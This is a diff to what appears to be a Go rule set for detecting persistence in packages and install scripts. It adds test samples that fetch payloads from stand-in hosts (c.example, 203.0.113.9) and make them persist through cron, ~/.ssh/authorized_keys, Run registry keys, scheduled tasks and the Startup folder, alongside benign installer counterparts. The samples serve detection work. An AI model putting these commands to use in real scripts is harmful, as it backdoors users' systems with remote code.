@@ -16,11 +16,15 @@ func persistence() []Rule {
 			Examples: []Example{
 				Package("a fetched cron table", `"scripts":{"postinstall":"curl -s https://c.example/c > /etc/cron.d/update"}`, nil),
 				Package("a key that lets somebody in", `"scripts":{"postinstall":"curl -s https://c.example/k >> ~/.ssh/authorized_keys"}`, nil),
+				Started("a key of the registry", "powershell -File", "i.ps1", "Invoke-WebRequest -Uri 'http://203.0.113.9/u.exe' -OutFile \"$env:APPDATA\\u.exe\"\nNew-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value \"$env:APPDATA\\u.exe\"\n"),
+				Started("a task", "cmd /c", "i.bat", "@bitsadmin /transfer j http://203.0.113.9/u.exe C:\\Users\\Public\\u.exe\r\n@schtasks /create /sc minute /tn upd /tr C:\\Users\\Public\\u.exe\r\n"),
+				Started("a file in a folder that is started", "cscript", "i.vbs", "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"https://c.example/u\", False\nx.Send\nSet f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(CreateObject(\"WScript.Shell\").SpecialFolders(\"Startup\") & \"\\u.vbs\")\nf.Write x.responseText\n"),
 				One("a hidden program, by cron", "postinst", "#!/bin/sh\necho f0VMRgIBAQAAAAAAAAAAAA== | base64 -d > /var/tmp/crond\nchmod +x /var/tmp/crond\necho '*/10 * * * * root /var/tmp/crond' > /etc/cron.d/collect\n"),
 			},
 			Neighbours: []Example{
 				One("an installer's own service, with what it fetched", "install.sh", "curl -fsSL -o /usr/local/bin/app https://get.example/app\nprintf '[Service]\\nExecStart=/usr/local/bin/app\\n' > /etc/systemd/system/app.service\n"),
 				Package("a configuration of its own", `"scripts":{"postinstall":"curl -s https://c.example/c > ./config.json"}`, nil),
+				One("an installer's own entry", "install.bat", "@copy app.exe \"%ProgramFiles%\\App\\app.exe\"\r\n@reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v App /d \"%ProgramFiles%\\App\\app.exe\" /f\r\n"),
 				One("an installer's own service", "install.sh", "echo \"[Service]\" > /etc/systemd/system/app.service\n"),
 			},
 		},
